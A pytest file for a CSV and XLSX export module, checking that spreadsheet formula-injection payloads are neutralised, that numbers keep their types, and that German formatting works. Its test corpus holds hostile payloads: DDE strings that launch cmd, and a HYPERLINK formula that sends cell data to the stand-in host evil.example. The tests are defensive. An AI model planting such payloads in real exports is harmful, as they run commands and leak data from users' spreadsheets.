"""CSV and XLSX exports: formula injection neutralised, numbers stay numbers, the
export's description on top (CSV) or on its own sheet (XLSX)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from data.export import neutralise, to_csv, to_xlsx

# Payloads from the usual CSV-injection lists.
CORPUS = [
    "=1+1", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"klick\")", "+1+1", "-1+1", "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-2+3+cmd|' /C calc'!A0", "@IMPORTXML(x)",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]


@pytest.mark.parametrize("payload", CORPUS)
def test_formula_payloads_become_text(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", [-3.5, -1, 0, 7, "-3.5", "-2", "+4", "-0,5", "plain text",
                                   "a=b", "E-Mail", None])
def test_numbers_and_ordinary_text_stay(value):
    assert neutralise(value) == value


def frame():
    return pd.DataFrame({
        "touchpoint": CORPUS[:4] + ["Hotline"],
        "score": [-1.5, 2.25, -3.0, 4.0, None],
        "n": [1, 2, 3, 4, 5],
    })


def test_csv_neutralises_and_keeps_negative_numbers():
    text = to_csv(frame(), {"filters": "journey=vertrag"}).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[0] == "# filters: journey=vertrag" and lines[1].startswith("# exported: ")
    rows = list(csv.reader(io.StringIO("\n".join(lines[2:]))))
    assert rows[0] == ["touchpoint", "score", "n"]
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'=HYPERLINK(\"http://evil.example?x=\"&A1,"
                                        "\"klick\")", "'+1+1", "'-1+1", "Hotline"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2.25", "-3", "4", ""]


def test_german_csv_uses_semicolons_and_decimal_commas():
    text = to_csv(frame(), {"Filter": "Journey=vertrag"}, german=True).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text.split("\n", 2)[2]), delimiter=";"))
    assert rows[1][1:] == ["-1,5", "1"] and rows[2][1] == "2,25"


def test_xlsx_neutralises_and_keeps_numbers():
    book = load_workbook(io.BytesIO(to_xlsx({"Gaps": frame()}, {"filters": "=evil()"})))
    assert book.sheetnames == ["Gaps", "About"]
    sheet = book["Gaps"]
    assert [c.value for c in sheet["A"]][1:] == ["'=1+1", "'=HYPERLINK(\"http://evil.example?"
                                                 "x=\"&A1,\"klick\")", "'+1+1", "'-1+1",
                                                 "Hotline"]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert [c.value for c in sheet["B"]][1:] == [-1.5, 2.25, -3, 4, None]
    about = {r[0].value: r[1].value for r in book["About"].iter_rows()}
    assert about["filters"] == "'=evil()" and "exported" in about


HOSTILE_FILTER = "x\n=HYPERLINK(\"http://evil.example/\"&A3)\r\n+1+1"


@pytest.mark.parametrize("german", [False, True])
def test_a_line_break_in_the_description_never_starts_a_line_of_its_own(german):
    frame = pd.DataFrame({"name\n=1+1": [" \n=2+2"], "n": [3]})
    text = to_csv(frame, {"filters": f"journey={HOSTILE_FILTER}", "view\n=1": "/"},
                  german=german).decode("utf-8-sig")
    sep = ";" if german else ","
    rows = list(csv.reader(io.StringIO(text), delimiter=sep))
    for row in rows:
        for cell in row:
            assert not cell.lstrip(" \n\r\t").startswith(("=", "+", "@")), row
    description = [line for line in text.split("\n") if line.startswith("#")]
    assert any("HYPERLINK" in line and line.startswith("# filters: journey=x") for line in
               description)
    table = [row for row in rows if row and not row[0].startswith("#")]
    assert len(table) == 2  # the header and one row (a quoted cell keeps its line break)


def test_xlsx_description_and_headers_have_no_formula_and_no_line_break():
    frame = pd.DataFrame({"=1+1": [" =3+3"]})
    book = load_workbook(io.BytesIO(to_xlsx({"Data": frame}, {"filters": HOSTILE_FILTER})))
    assert book["Data"]["A1"].value == "'=1+1" and book["Data"]["A2"].value == "' =3+3"
    about = {row[0]: row[1] for row in book["About"].iter_rows(values_only=True)}
    assert "\n" not in about["filters"] and "\r" not in about["filters"]
    assert all(cell.data_type != "f" for row in book["About"].iter_rows() for cell in row)
